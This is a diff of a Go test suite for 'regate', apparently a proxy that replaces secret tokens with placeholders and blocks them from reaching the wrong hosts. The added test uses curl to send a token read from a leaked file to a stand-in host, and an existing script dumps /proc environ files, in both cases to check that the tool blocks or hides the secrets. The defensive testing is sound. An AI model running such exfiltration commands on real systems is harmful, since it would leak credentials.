@@ -42,6 +42,9 @@ func TestSecretsRun(t *testing.T) {
 	dir := t.TempDir()
 	logPath := filepath.Join(dir, "decisions.jsonl")
 	sock := filepath.Join(dir, "admin.sock")
+	// A real token the command should never have had (a file left
+	// readable): sent elsewhere it is denied, and logged as the placeholder.
+	leaked := writeFile(t, dir, "leaked", realGitHubToken)
 	gh, other := "https://api.github.test:"+p, "https://other.test:"+p
 	script := `
 c() { curl -sS "$@" 2>&1; }
@@ -54,6 +57,7 @@ echo "h2: $(c --http2 -H "Authorization: token $GH_TOKEN" ` + gh + `/h2)"
 echo "echoed: $(c --http1.1 -D - -o /dev/null -H "Authorization: Bearer $GH_TOKEN" ` + gh + `/e | tr -d '\r' | grep -i '^x-echo')"
 echo "other: $(c -H "Authorization: Bearer $GH_TOKEN" ` + other + `/o)"
 echo "other encoded: $(c "` + other + `/t/%67${GH_TOKEN#g}")"
+echo "leaked: $(c -H "X-Token: $(cat ` + leaked + `)" "` + other + `/l?t=$(cat ` + leaked + `)")"
 echo "pass: $(c --cacert ` + caFile + ` -H "Authorization: Bearer $GH_TOKEN" https://pass.test:` + p + `/p)"
 echo "second auth: $(c -H "Authorization: Bearer $GH_TOKEN" -H "Authorization: Bearer x$GH_TOKEN" ` + gh + `/2)"
 echo "other header: $(c -H "X-Token: $GH_TOKEN" ` + gh + `/x)"
@@ -64,7 +68,7 @@ echo "status: $(curl -sS --noproxy '*' --unix-socket ` + sock + ` http://regate/
 echo "decisions: $(curl -sS --noproxy '*' --unix-socket ` + sock + ` http://regate/v1/decisions)"
 echo "env:"; env
 `
-	res := regate(t, []string{"GH_TOKEN=" + realGitHubToken}, "run", "--secret", "github=GH_TOKEN@api.github.test,github.test",
+	res := regate(t, []string{"GH_TOKEN=" + realGitHubToken}, "run", "--decision-timeout", "30s", "--secret", "github=GH_TOKEN@api.github.test,github.test",
 		"--allow", "api.github.test", "--allow", "github.test", "--allow", "other.test", "--allow", "pass.test", "--inspect", "other.test",
 		"--allow-cidr", "127.0.0.0/8", "--resolve", "api.github.test:127.0.0.1", "--resolve", "github.test:127.0.0.1",
 		"--resolve", "other.test:127.0.0.1", "--resolve", "pass.test:127.0.0.1", "--upstream-ca", caFile,
@@ -85,6 +89,7 @@ echo "env:"; env
 		"other: regate: connection to other.test:" + p + " blocked: the request carries the placeholder of secret github, which is not for other.test",
 		"other encoded: regate: connection to other.test:" + p + " blocked: the request carries the placeholder of secret github",
 		`pass: pass.test auth="Bearer ` + ph + `"`,
+		"leaked: regate: connection to other.test:" + p + " blocked: the request carries the placeholder of secret github, which is not for other.test",
 		"second auth: regate: connection to api.github.test:" + p + " blocked: a secret's placeholder is left where regate does not replace it: secret github",
 		"other header: regate: connection to api.github.test:" + p + " blocked: a secret's placeholder is left where regate does not replace it: secret github",
 		"lower: regate: connection to api.github.test:" + p + " blocked: a secret's placeholder is left where regate does not replace it: secret github",
@@ -140,8 +145,8 @@ echo "env:"; env
 			denied++
 		}
 	}
-	if denied != 2 {
-		t.Errorf("%d denied decisions of other.test with secrets, want 2:\n%s", denied, data)
+	if denied != 3 {
+		t.Errorf("%d denied decisions of other.test with secrets, want 3:\n%s", denied, data)
 	}
 }
 
@@ -173,7 +178,7 @@ echo "npm bearer: $(curl -sS -H "Authorization: Bearer $NPM_TOKEN" https://api.g
 echo "environ:"; cat /proc/1/environ /proc/self/environ | tr '\0' '\n'
 echo "env:"; env
 `
-	res := regate(t, []string{"GH_TOKEN=" + realGitHubToken}, "run", "--isolate", "--config", cfg,
+	res := regate(t, []string{"GH_TOKEN=" + realGitHubToken}, "run", "--decision-timeout", "30s", "--isolate", "--config", cfg,
 		"--secret", "github=GH_TOKEN@api.github.test", "--allow", "api.github.test",
 		"--allow-cidr", "127.0.0.0/8", "--resolve", "api.github.test:127.0.0.1", "--upstream-ca", caFile, "--", "sh", "-c", script)
 	wantCode(t, res, 0)
@@ -278,7 +283,7 @@ func TestSecretsGitClone(t *testing.T) {
 	clone := filepath.Join(t.TempDir(), "clone")
 	script := `git clone -q "https://x-access-token:$GH_TOKEN@github.test:` + port + `/acme/repo.git" ` + clone + ` 2>&1 && echo "clone: $(cat ` + clone + `/README)"
 echo "remote: $(git -C ` + clone + ` remote get-url origin)"`
-	res := regate(t, append(gitEnv(home), "GH_TOKEN="+realGitHubToken), "run", "--secret", "github=GH_TOKEN@github.test",
+	res := regate(t, append(gitEnv(home), "GH_TOKEN="+realGitHubToken), "run", "--decision-timeout", "30s", "--secret", "github=GH_TOKEN@github.test",
 		"--allow", "github.test", "--allow-cidr", "127.0.0.0/8", "--resolve", "github.test:127.0.0.1", "--upstream-ca", caFile,
 		"--", "sh", "-c", script)
 	wantCode(t, res, 0)
